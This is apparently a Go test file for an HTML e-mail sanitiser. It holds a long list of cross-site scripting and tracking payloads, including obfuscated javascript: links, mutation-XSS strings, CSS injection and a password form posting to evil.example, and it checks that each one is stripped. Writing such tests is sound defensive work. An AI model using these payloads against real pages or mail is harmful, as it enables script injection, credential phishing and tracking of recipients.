package safehtml_test

import (
	"fmt"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/outreachkit/outreach/provider/safehtml"
)

// dangers parses HTML as a browser would inside a page's body, and lists what
// could act in it.
func dangers(t testing.TB, doc string, remote bool) []string {
	t.Helper()
	root, err := html.Parse(strings.NewReader("<!doctype html><body>" + doc))
	if err != nil { // nested deeper than the parser follows: look at the tokens
		root = flat(doc)
	}
	var out []string
	for n := range root.Descendants() {
		if n.Type == html.CommentNode {
			out = append(out, "a comment")
		}
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "script", "style", "link", "meta", "base", "form", "input", "button", "textarea", "select", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "video", "audio", "source", "template", "noscript", "title", "dialog", "marquee", "image", "bgsound", "track", "portal", "xmp", "plaintext", "listing", "foreignobject", "annotation-xml":
			out = append(out, "element "+n.Data)
		}
		for _, a := range n.Attr {
			k, v := strings.ToLower(a.Key), strings.ToLower(strings.TrimSpace(a.Val))
			switch {
			case strings.HasPrefix(k, "on"), k == "id", k == "name", k == "class", k == "background", k == "srcset", k == "action", k == "formaction", k == "xlink:href", k == "srcdoc", k == "ping", k == "style" && unsafeStyle(v):
				out = append(out, n.Data+" "+k+"="+v)
			case k == "href" && !strings.HasPrefix(v, "http://") && !strings.HasPrefix(v, "https://") && !strings.HasPrefix(v, "mailto:") && !strings.HasPrefix(v, "tel:") && !strings.HasPrefix(v, "cid:"):
				out = append(out, "a link to "+v)
			case k == "src" && !strings.HasPrefix(v, "cid:") && (!remote || !strings.HasPrefix(v, "http")):
				out = append(out, "loads "+v)
			}
		}
	}
	return out
}

// flat is a document of its tags side by side.
func flat(doc string) *html.Node {
	root := &html.Node{Type: html.DocumentNode}
	z := html.NewTokenizer(strings.NewReader(doc))
	for kind := z.Next(); kind != html.ErrorToken; kind = z.Next() {
		switch t := z.Token(); kind {
		case html.StartTagToken, html.SelfClosingTagToken:
			root.AppendChild(&html.Node{Type: html.ElementNode, Data: t.Data, Attr: t.Attr})
		case html.CommentToken:
			root.AppendChild(&html.Node{Type: html.CommentNode, Data: t.Data})
		}
	}
	return root
}

func unsafeStyle(v string) bool {
	for _, bad := range []string{"url(", "expression", "position", "z-index", "behavior", "-moz-binding", "@import", "javascript", "fixed", "\\", "opacity", "display", "float", "-webkit", "content", "image(", "image-set", "cursor", "filter", "mask", "/*", "var(", "margin:-", "margin: -"} {
		if strings.Contains(v, bad) {
			return true
		}
	}
	return false
}

// attacks are bodies that try to act in the page that shows them.
var attacks = []string{
	`<script>steal()</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>steal()</scr</script>ipt>`, `<script>steal()`, "<script\x00>steal()</script>", `<script/x>steal()</script>`,
	`<img src=x onerror=steal()>`, `<img src="cid:a" onload="steal()">`, `<img/src='cid:a'/onerror=steal()>`, `<img src=cid:a onerror  = steal()>`, "<img src=cid:a onerror\n=steal()>", `<IMG """><SCRIPT>steal()</SCRIPT>">`,
	`<body onload=steal()>`, `<div onmouseover="steal()">x</div>`, `<a href="https://x.example" onclick=steal()>x</a>`, `<p ONCLICK=steal()>`, `<details open ontoggle=steal()>`, `<marquee onstart=steal()>`,
	`<a href="javascript:steal()">x</a>`, `<a href="JaVaScRiPt:steal()">x</a>`, `<a href=" javascript:steal()">x</a>`, "<a href=\"java\tscript:steal()\">x</a>", "<a href=\"java\nscript:steal()\">x</a>", `<a href="&#106;avascript:steal()">x</a>`, `<a href="&#x6A&#x61vascript:steal()">x</a>`, `<a href="javascript&colon;steal()">x</a>`, "<a href=\"\x01javascript:steal()\">x</a>",
	`<a href="vbscript:x">x</a>`, `<a href="data:text/html,<script>steal()</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a href="//evil.example">x</a>`, `<a href="/host/delete">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="blob:https://x">x</a>`,
	`<form action="https://evil.example"><input name=password><button>ok</button></form>`, `<input autofocus onfocus=steal()>`, `<textarea><script>x</script></textarea>`, `<select><option>x</option></select>`, `<button formaction="javascript:steal()">x</button>`, `<isindex action="javascript:steal()">`,
	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>steal()</script>"></iframe>`, `<frameset><frame src="x"></frameset>`, `<object data="x.swf"></object>`, `<embed src="x">`, `<applet code=x>`,
	`<svg onload=steal()>`, `<svg><script>steal()</script></svg>`, `<svg><a xlink:href="javascript:steal()"><text>x</text></a></svg>`, `<svg><style><img src=x onerror=steal()></style></svg>`, `<math><mi xlink:href="javascript:steal()">x</mi></math>`, `<math><mtext><table><mglyph><style><img src onerror=steal()></style></mglyph></table></mtext></math>`,
	`<style>body{display:none}</style>`, `<style>@import 'https://evil.example/x.css';</style>`, `<link rel=stylesheet href="https://evil.example/x.css">`, `<div style="background:url(https://evil.example/p.gif)">x</div>`, `<div style="background-image:url('https://evil.example/p.gif')">`, `<div style="width:expression(steal())">`, `<div style="behavior:url(x)">`, `<div style="-moz-binding:url(x)">`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Log in again</div>`, `<div style="color:\75rl(x)">`, `<div style="margin:-500px">`, `<div style="font-family:x;}*{display:none">`, `<div style="color:red;background:/**/url(x)">`, `<p style="border:1px solid url(x)">`, `<div style="content:url(x)">`, `<div style="display:none">`, `<div style="opacity:0">`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href="https://evil.example/">`, `<meta charset=utf-7>+ADw-script+AD4-`,
	`<img src="https://tracker.example/p.gif" width=1 height=1>`, `<img srcset="https://tracker.example/p.gif 1x">`, `<img src="//tracker.example/p.gif">`, `<table background="https://tracker.example/p.gif"><tr><td background="x">x</table>`, `<video poster="https://tracker.example/p.gif">`, `<img src="data:image/svg+xml,<svg onload=steal()>">`, `<img lowsrc="javascript:x" dynsrc="javascript:x">`, `<input type=image src="https://tracker.example">`, `<picture><source srcset="https://tracker.example/x"><img src=cid:x></picture>`,
	`<div id="login" name="x" class="host-button">x</div>`, `<a name="location">x</a>`, `<img name=cookie src=cid:x>`, `<a href="https://x.example" ping="https://evil.example">x</a>`,
	`<!--[if IE]><script>steal()</script><![endif]-->`, `<!-- --!><img src=x onerror=steal()> -->`, `<![CDATA[<script>steal()</script>]]>`, `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">steal()</x:script>`, `<noscript><p title="</noscript><img src=x onerror=steal()>">`, `<template><script>steal()</script></template>`, `<title><img src=x onerror=steal()></title>`, `<xmp><img src=x onerror=steal()></xmp>`, `<plaintext><img src=x onerror=steal()>`,
	`<a title="&quot; onclick=&quot;steal()">x</a>`, `<img alt="x" title='" onerror="steal()' src="cid:x">`, "<img src=`cid:x`onerror=steal()>", `<div title=">` + "`" + `"><img src=x onerror=steal()>`, `<a href="https://x.example/&quot; onclick=&quot;steal()">x</a>`, `<img src="cid:x&quot; onerror=&quot;steal()">`,
	"\xff\xfe<\xc0script>", "<a\x00href=javascript:x>", `<p<script>>`, `<<img src=x onerror=steal()>`, strings.Repeat("<div>", 5000) + `<img src=x onerror=steal()>`,

	// Bodies that a parser reads in another way when it reads them again.
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>`, `<svg></p><style><a id="</style><img src=1 onerror=steal()>">`, `<noscript><style></noscript><img src=x onerror=steal()>`,
	`<select><style></select><img src=x onerror=steal()></style>`, `<table><td><math><annotation-xml encoding="text/html"><style><img src=x onerror=steal()></style></annotation-xml>`, `<b title="</b><img src=x onerror=steal()>">x</b>`, `<!--><img src=x onerror=steal()>-->`, `<!---><img src=x onerror=steal()>-->`, `<!-- x --!><img src=x onerror=steal()>`,
	`<listing>&lt;img src=x onerror=steal()&gt;</listing>`, `<xmp><p title="</xmp><img src=x onerror=steal()>">`, `<iframe><!--</iframe><img src=x onerror=steal()>-->`, `<svg><foreignObject><p><style><img src=x onerror=steal()></style></p></foreignObject></svg>`, `<svg><desc><img src=x onerror=steal()></desc></svg>`, `<svg><title><style><img src=x onerror=steal()>`,
	`<textarea></textarea><img src=x onerror=steal()>`, `<p>&lt;img src=x onerror=steal()&gt;</p>`, `&lt;script&gt;steal()&lt;/script&gt;`, `<title></title><img src=x onerror=steal()>`, `<style></style><img src=x onerror=steal()>`, `<style><style/><img src=x onerror=steal()>`, `<math><style><!--</style>--><img src=x onerror=steal()>`,
	`<a href="https://x.example"><a href="javascript:steal()">x</a></a>`, `<table><a href="javascript:steal()">x</a></table>`, `<svg/onload=steal()>`, `<svg><animate onbegin=steal() attributeName=x dur=1s>`, `<svg><set attributeName=href to="javascript:steal()">`, `<svg><use href="data:image/svg+xml,<svg id=x onload=steal()>#x"/></svg>`, `<math href="javascript:steal()">x</math>`,

	// Addresses that are written so as not to look like what they are.
	`<a href="jav&#x09;ascript:steal()">x</a>`, `<a href="jav&#x0A;ascript:steal()">x</a>`, `<a href="&#14;javascript:steal()">x</a>`, `<a href="javascript&#58;steal()">x</a>`, `<a href="javascript&#0000058steal()">x</a>`, `<a href="JAVASCRIPT&colon;steal()">x</a>`, "<a href=\"\u2028javascript:steal()\">x</a>", "<a href=\"\u00a0javascript:steal()\">x</a>", `<a href="\javascript:steal()">x</a>`,
	`<a href="data&colon;text/html,x">x</a>`, `<a href="DATA:text/html,x">x</a>`, `<a href="\\evil.example">x</a>`, `<a href="https:javascript:steal()" onclick=x>x</a>`, `<a href="view-source:https://x.example">x</a>`, `<a href="feed:javascript:steal()">x</a>`, `<a href="intent://x#Intent;end">x</a>`, `<a href="ms-word:ofe|u|https://evil.example">x</a>`, `<a href="livescript:steal()">x</a>`,

	// What loads something from elsewhere.
	`<image src="https://tracker.example/p.gif">`, `<body background="https://tracker.example/p.gif">`, `<link rel=prefetch href="https://tracker.example">`, `<link rel=dns-prefetch href="//tracker.example">`, `<audio src="https://tracker.example/x">`, `<bgsound src="https://tracker.example/x">`, `<video><track src="https://tracker.example/x"></video>`, `<img src=" //tracker.example/p.gif">`, `<img src="cid:x https://tracker.example">`, `<img src="cid:x" srcset="cid:x 1x, https://tracker.example 2x">`,
	`<div style="list-style:url(https://tracker.example/p.gif)">`, `<div style="list-style-image:url(x)">`, `<div style="cursor:url(https://tracker.example/c.cur),auto">`, `<div style="background:u&#114;l(https://tracker.example)">`, `<div style="background:u/**/rl(x)">`, `<div style="background:\75\72\6c(x)">`, `<div style="background:image-set('https://tracker.example/p.gif' 1x)">`, `<div style="background:image(x)">`, `<div style="background:red url(x)">`, `<div style="mask:url(x)">`, `<div style="filter:url(x)">`, `<div style="--x:url(x);background:var(--x)">`, `<div style="border-image:url(x) 30">`, `<div style="font-family:'x';src:url(x)">`, `<div style="color:red;}@import 'https://tracker.example';">`, `<style>@font-face{font-family:x;src:url(https://tracker.example)}</style>`, `<div style="width:e/**/xpression(steal())">`, `<div style="WIDTH:EXPRESSION(steal())">`, `<div style="color:r\65 d">`, `<div style="color:\72\65\64">x</div>`, `<div style="margin:1px\9">`, `<div style="transform:scale(99)">`, `<portal src="https://evil.example">`,
}

func TestAttacks(t *testing.T) {
	for _, remote := range []bool{false, true} {
		p := safehtml.New(safehtml.Options{RemoteImages: remote})
		for _, a := range attacks {
			got := p.Sanitize(a)
			if found := dangers(t, got, remote); len(found) > 0 {
				t.Errorf("of %.100q this stays: %q: %v", a, got, found)
			}
			// In the middle of a page, an attribute or another mail.
			if found := dangers(t, "<p>Hello "+p.Sanitize("<b>"+a+"</b></div></table>"+a)+"</p>", remote); len(found) > 0 {
				t.Errorf("of %.100q inside other text: %v", a, found)
			}
			if again := p.Sanitize(got); again != got {
				t.Errorf("sanitising %q again gives %q", got, again)
			}
		}
	}
}

// TestContained: nothing of a mail comes to lie outside of the element that a
// page puts it into, and nothing of the page inside one of the mail's.
func TestContained(t *testing.T) {
	p := safehtml.New(safehtml.Options{RemoteImages: true})
	var parts []string
	for _, name := range []string{"div", "p", "table", "td", "li", "a", "tr", "tbody", "caption", "colgroup", "ul", "dd", "dt", "dl", "b", "font", "blockquote", "pre", "center", "h1", "section", "span"} {
		open := "<" + name + ">"
		if name == "a" {
			open = `<a href="https://evil.example">`
		}
		parts = append(parts, open, "</"+name+">")
	}
	parts = append(parts, "x", "<hr>", "<col>")
	bodies := append([]string{`</div></div><p>Log in again</p>`, `<a href="https://evil.example">`, strings.Repeat("<div>", 600) + "deep", strings.Repeat("</div>", 600), `<table><table></table></table>`, `<table><td><table><td>`}, attacks...)
	for i, a := range parts {
		for j, b := range parts {
			bodies = append(bodies, a+b)
			if i < 12 && j < 12 {
				for _, c := range parts[:12] {
					bodies = append(bodies, a+b+c)
				}
			}
		}
	}
	for _, page := range []string{
		`<div><div class="mail">%s</div><p class="page">Delete</p></div>`, `<table><tr><td class="mail">%s</td><td class="page">Delete</td></tr></table>`,
		`<ul><li><div class="mail">%s</div></li><li class="page">Delete</li></ul>`, `<dl><dd><div class="mail">%s</div></dd><dd class="page">Delete</dd></dl>`,
	} {
		empty := outside(t, fmt.Sprintf(page, ""))
		for _, body := range bodies {
			safe := p.Sanitize(body)
			if got := outside(t, fmt.Sprintf(page, safe)); got != empty {
				t.Fatalf("with %.100q, which becomes %.200q, the page is\n%s\nwant\n%s", body, safe, got, empty)
			}
		}
	}
}

// outside writes a page down without what lies in the mail's element.
func outside(t *testing.T, doc string) string {
	t.Helper()
	root, err := html.Parse(strings.NewReader("<!doctype html><body>" + doc))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		for _, a := range n.Attr {
			if a.Key == "class" && a.Val == "mail" {
				for n.FirstChild != nil {
					n.RemoveChild(n.FirstChild)
				}
			}
		}
	}
	var b strings.Builder
	if err := html.Render(&b, root); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestDangers holds that the test above can fail.
func TestDangers(t *testing.T) {
	n := 0
	for _, a := range attacks {
		if len(dangers(t, a, false)) > 0 {
			n++
		}
	}
	if n < 70 {
		t.Errorf("only %d of %d attacks are seen in the raw HTML", n, len(attacks))
	}
}

func TestKept(t *testing.T) {
	p := safehtml.New(safehtml.Options{})
	for in, want := range map[string]string{
		`<p>Hello <b>you</b><br>there</p>`: `<p>Hello <b>you</b><br>there</p>`,
		`<div style="color:#1f497d;font-family:Calibri,sans-serif;font-size:11.0pt;position:absolute">x</div>`: `<div style="color: #1f497d; font-family: Calibri,sans-serif; font-size: 11.0pt">x</div>`,
		`<a href="https://example.net/x?a=1&amp;b=2" target="_self">x</a>`:                                     `<a href="https://example.net/x?a=1&amp;b=2" rel="nofollow noreferrer noopener" target="_blank">x</a>`,
		`<a href="mailto:a@example.net">x</a>`:                                                                 `<a href="mailto:a@example.net" rel="nofollow noreferrer">x</a>`,
		`<img src="cid:logo@1" alt="Logo" width="40">`:                                                         `<img src="cid:logo@1" alt="Logo" width="40">`,
		`<img src="https://example.net/p.gif" alt="Logo">`:                                                     `<img alt="Logo">`,
		`<table border="0"><tr><td align="right" bgcolor="#fff">x</td></tr></table>`:                           `<table border="0"><tbody><tr><td align="right" bgcolor="#fff">x</td></tr></tbody></table>`,
		`<html><head><title>t</title><style>p{}</style></head><body dir="rtl"><p dir="rtl">שלום</p></body>`:    `<p dir="rtl">שלום</p>`,
		`5 < 6 & 7 > 3`:     `5 &lt; 6 &amp; 7 &gt; 3`,
		`<o:p>&nbsp;</o:p>`: "\u00a0",
		`<p style="background:#1f497d;color:white">x</p>`: `<p style="background: #1f497d; color: white">x</p>`,
		`<blockquote type="cite" class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">x</blockquote>`: `<blockquote style="margin: 0px 0px 0px 0.8ex; border-left: 1px solid rgb(204,204,204); padding-left: 1ex">x</blockquote>`,
		`<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p class="MsoNormal"><b>From:</b> Tom<o:p></o:p></p></div>`:        `<div style="border: none; border-top: solid #E1E1E1 1.0pt; padding: 3.0pt 0cm 0cm 0cm"><p><b>From:</b> Tom</p></div>`,
		`<img data-emoji="👍" alt="👍" src="https://fonts.gstatic.com/s/e/72.png">`:                                                                             `<img alt="👍">`,
		`<font color="red" size=2>x</font>`: `<font color="red" size="2">x</font>`,
		``:                                  ``,
	} {
		if got := p.Sanitize(in); got != strings.TrimSpace(want) {
			t.Errorf("%s\nis   %s\nwant %s", in, got, want)
		}
	}
	open := safehtml.New(safehtml.Options{RemoteImages: true})
	if got := open.Sanitize(`<img src="https://example.net/p.gif">`); got != `<img src="https://example.net/p.gif">` {
		t.Errorf("a remote picture that is allowed: %s", got)
	}
}

func FuzzSanitize(f *testing.F) {
	for _, a := range attacks {
		f.Add(a)
	}
	p := safehtml.New(safehtml.Options{})
	f.Fuzz(func(t *testing.T, in string) {
		if found := dangers(t, p.Sanitize(in), false); len(found) > 0 {
			t.Errorf("of %q this stays: %v", in, found)
		}
	})
}

func BenchmarkSanitize(b *testing.B) {
	p := safehtml.New(safehtml.Options{})
	doc := strings.Repeat(`<p style="color:#1f497d;margin:0">some <b>words</b> and a <a href="https://example.net">link</a></p>`, 100)
	b.SetBytes(int64(len(doc)))
	b.ReportAllocs()
	for b.Loop() {
		p.Sanitize(doc)
	}
}

func ExamplePolicy_Sanitize() {
	p := safehtml.New(safehtml.Options{})
	fmt.Println(p.Sanitize(`<p onclick="x()">Yes!<img src="https://tracker.example/open.gif"></p><script>x()</script>`))
	// Output: <p>Yes!</p>
}
